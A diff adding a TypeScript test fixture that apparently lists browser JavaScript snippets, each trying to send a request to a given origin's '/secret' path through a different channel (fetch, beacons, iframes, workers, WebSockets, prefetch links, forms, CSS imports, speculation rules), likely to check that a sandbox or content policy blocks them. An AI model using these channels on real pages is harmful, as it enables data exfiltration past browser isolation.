@@ -1,0 +1,21 @@
+/** Scripts that want to reach a server (an origin) by the ways that browsers have. */
+export const WAYS_OUT: readonly (readonly [name: string, script: (to: string) => string])[] = [
+  ['by fetch', (to: string) => `fetch('${to}/secret', { mode: 'no-cors' })`],
+  ['by a redirect to another host', () => `fetch('/out')`],
+  ['by going there', (to: string) => `location.href = '${to}/secret'`],
+  ['by a redirect of the page', () => `location.href = '/out'`],
+  ['in a frame', (to: string) => `const f = document.createElement('iframe'); f.src = '${to}/secret'; document.body.append(f)`],
+  ['by a picture', (to: string) => `new Image().src = '${to}/secret'`],
+  ['by a beacon', (to: string) => `navigator.sendBeacon('${to}/secret', 'x')`],
+  ['by a WebSocket', (to: string) => `new WebSocket('${to.replace('http', 'ws')}/secret')`],
+  ['by a worker', (to: string) => `new Worker(URL.createObjectURL(new Blob(["fetch('${to}/secret'); new WebSocket('${to.replace('http', 'ws')}/')"])))`],
+  ['by a shared worker', (to: string) => `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${to}/secret')"])))`],
+  ['by a service worker', () => `navigator.serviceWorker.register('/worker.js')`],
+  ['by an event stream', (to: string) => `new EventSource('${to}/secret')`],
+  ['by a prefetch', (to: string) => `for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender']) { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = '${to}/secret'; document.head.append(l) }`],
+  ['by a form', (to: string) => `const f = document.createElement('form'); f.action = '${to}/secret'; f.method = 'post'; document.body.append(f); f.submit()`],
+  ['by a window', (to: string) => `open('${to}/secret')`],
+  ['by a window of another frame', (to: string) => `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.open('${to}/secret'); Window.prototype.open?.call(f.contentWindow, '${to}/secret')`],
+  ['by a style sheet', (to: string) => `const s = document.createElement('style'); s.textContent = '@import url(${to}/secret); body { background: url(${to}/secret) }'; document.head.append(s)`],
+  ['by speculation rules', (to: string) => `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{"prerender":[{"source":"list","urls":["${to}/secret"]}]}'; document.head.append(s)`],
+];
